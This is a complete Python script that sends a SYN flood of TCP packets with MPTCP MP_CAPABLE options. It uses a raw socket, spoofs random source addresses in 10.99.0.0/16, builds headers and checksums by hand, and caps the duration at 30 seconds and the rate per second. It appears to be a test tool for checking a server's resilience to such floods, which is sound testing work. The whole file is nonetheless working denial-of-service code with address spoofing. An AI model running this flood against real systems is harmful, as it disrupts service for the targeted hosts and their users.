#!/usr/bin/env python3
"""A bounded SYN flood: MP_CAPABLE SYNs from spoofed sources in
10.99.0.0/16 with random ports, through a raw socket, for SECONDS.

usage: syn_flood.py DST_IP DST_PORT SECONDS [MAX_PER_SECOND]
Prints {"syns": N, "seconds": S} at the end.
"""
import json
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    dst, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    cap = int(sys.argv[4]) if len(sys.argv) > 4 else 200_000
    seconds = min(seconds, 30.0)  # bounded, whatever the caller says
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    daddr = socket.inet_aton(dst)
    # MSS 1460, SACK permitted, window scale 7, MP_CAPABLE v1 (HMAC-SHA256).
    opts = bytes([2, 4, 5, 0xB4, 4, 2, 1, 3, 3, 7, 30, 4, 0x01, 0x01])
    opts += b"\0" * ((4 - len(opts) % 4) % 4)
    thl = 20 + len(opts)
    rnd = random.Random(0x5EED)
    sent = 0
    start = time.monotonic()
    end = start + seconds
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if sent >= cap * (now - start) + 1000:
            time.sleep(0.001)
            continue
        for _ in range(256):
            saddr = bytes([10, 99, rnd.randrange(256), rnd.randrange(1, 255)])
            sport = rnd.randrange(1024, 65536)
            seq = rnd.getrandbits(32)
            tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, (thl // 4) << 4, 0x02, 64240, 0, 0) + opts
            pseudo = saddr + daddr + struct.pack("!BBH", 0, 6, thl)
            c = csum(pseudo + tcp)
            tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + thl, 0, 0, 64, 6, 0, saddr, daddr)
            try:
                s.sendto(ip + tcp, (dst, 0))
                sent += 1
            except OSError:
                pass
    print(json.dumps({"syns": sent, "seconds": time.monotonic() - start}), flush=True)


main()
